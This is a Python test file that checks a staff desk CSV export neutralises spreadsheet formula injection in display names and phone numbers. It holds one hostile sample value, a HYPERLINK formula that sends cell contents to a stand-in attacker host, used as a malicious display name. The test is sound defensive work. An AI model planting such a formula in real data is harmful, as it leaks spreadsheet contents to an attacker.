"""CSV exports never hand a spreadsheet a live formula: display names, numbers and stored values are inert text."""

from __future__ import annotations

import csv
import io

from ivr.core import csvcells

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Anna\")"


def test_the_workbench_export_quotes_a_display_name_and_keeps_the_number_readable(people, make_task):
    task = make_task(phone="+4917600000007")
    mallory = people("mallory", display_name=FORMULA)
    assert mallory.post(f"/staff/tasks/{task}/claim").status_code in (200, 302)
    text = mallory.get("/staff/desks/zebera/export.csv?lang=en").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [(r["phone"], r["claimed by"]) for r in rows] == [("'+4917600000007", "'" + FORMULA)]
    assert not any(value.startswith(csvcells.FORMULA_STARTS) for row in rows for value in row.values())
